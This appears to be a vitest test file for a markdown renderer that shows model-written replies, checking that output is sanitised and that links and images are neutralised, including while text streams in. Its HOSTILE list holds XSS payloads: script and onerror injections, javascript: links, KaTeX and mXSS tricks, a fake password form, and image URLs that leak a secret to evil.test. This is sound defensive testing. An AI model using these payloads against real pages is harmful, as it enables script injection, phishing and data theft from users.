import { describe, expect, test } from "vitest";
import { everyPrefixOf, rendered, streamed } from "./render_support";

const HOSTILE = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<svg onload=alert(1)><script>alert(1)</script></svg>",
  "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
  "<form action=https://evil.test><input name=password type=password></form>",
  "<a href='javascript:alert(1)' id=config name=cookie ping=https://evil.test>x</a>",
  "<div style='position:fixed;inset:0'>Session expired</div>",
  "<style>@import 'https://evil.test'</style><link rel=stylesheet href=https://evil.test>",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](&#106;avascript:alert(1))",
  "[x](data:text/html;base64,PHNjcmlwdD4=)",
  "[x](vbscript:msgbox(1))",
  "[out](/accounts/logout/)",
  "[out](//evil.test/x)",
  "[out](\\\\evil.test/x)",
  '![x](x" onerror="alert(1))',
  "![a](https://evil.test/?q=secret)",
  "![a][r]\n\n[r]: https://evil.test/?q=secret",
  '[a](https://evil.test "title\\" onmouseover=\\"alert(1)")',
  '<https://evil.test/" onmouseover=alert(1)>',
  '```html" onmouseover="alert(1)\n<b>\n```',
  "| <img src=x onerror=alert(1)> |\n|---|\n| <svg/onload=alert(1)> |",
  "$\\href{javascript:alert(1)}{x}$",
  "$\\includegraphics{https://evil.test/x.png}$",
  "$\\htmlData{x=y}{a}$ $\\unknown<img src=x onerror=alert(1)>$",
  "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
];

describe("whatever a model writes", () => {
  const settings = [
    (text: string) => text,
    (text: string) => `- ${text.replaceAll("\n", "\n  ")}`,
    (text: string) => `> ${text.replaceAll("\n", "\n> ")}`,
    (text: string) => `# ${text}`,
  ];

  test.each(HOSTILE)("nothing runs, posts, poses or is fetched: %s", async (payload) => {
    for (const set of settings) {
      const page = await rendered(set(payload));

      expect(
        page.querySelector(
          "script, style, link, img, svg:not(.katex svg), iframe, form, input, object, embed, base, meta",
        ),
      ).toBeNull();
      for (const element of page.querySelectorAll(":not(.katex *)")) {
        const names = element.getAttributeNames();
        expect(
          names.filter((name) => /^on|^(style|id|name|src|srcset|srcdoc|ping|xlink:href|action)$/.test(name)),
        ).toEqual([]);
      }
      for (const link of page.querySelectorAll("a"))
        expect(link.getAttribute("href")).toMatch(/^(https?:\/\/|mailto:)/);
    }
  });

  test.each(HOSTILE)("nor while it is still arriving, letter by letter: %s", async (payload) => {
    const whole = await rendered(payload);

    const grown = await streamed(payload, everyPrefixOf(payload));

    expect(grown.innerHTML).toBe(whole.innerHTML);
  });

  test("a class of the page cannot be worn by a reply", async () => {
    const page = await rendered("```button--primary notice\nx\n```");

    expect(page.querySelector("code")?.className).toBe("language-button--primary");
    expect(page.querySelector(".notice, .button--primary")).toBeNull();
  });
});

describe("links", () => {
  test("a link says where it leads and takes nothing along", async () => {
    const page = await rendered('[report](https://evil.test/?d=secret "your bank")');
    const link = page.querySelector("a");

    expect(link?.title).toBe("https://evil.test/?d=secret");
    expect(link?.target).toBe("_blank");
    expect(link?.rel).toBe("noopener noreferrer nofollow");
    expect(link?.getAttribute("referrerpolicy")).toBe("no-referrer");
  });

  test("a bare address becomes a link, a file's name does not", async () => {
    const page = await rendered("See https://example.org/a_b and README.md or main.rs.");

    expect([...page.querySelectorAll("a")].map((link) => link.textContent)).toEqual([
      "https://example.org/a_b",
    ]);
  });

  test("a picture becomes a link with its words and its host", async () => {
    const page = await rendered("![a cat](https://pictures.test/cat.png)");

    expect(page.querySelector("a")?.textContent).toBe("a cat, pictures.test");
    expect(page.querySelector("a")?.getAttribute("href")).toBe("https://pictures.test/cat.png");
  });

  test("a picture within a link stays one link", async () => {
    const page = await rendered("[![build](https://badge.test/b.svg)](https://ci.test/)");

    expect(page.querySelectorAll("a").length).toBe(1);
    expect(page.querySelector("a")?.getAttribute("href")).toBe("https://ci.test/");
    expect(page.querySelector("a")?.textContent).toBe("build, badge.test");
  });
});
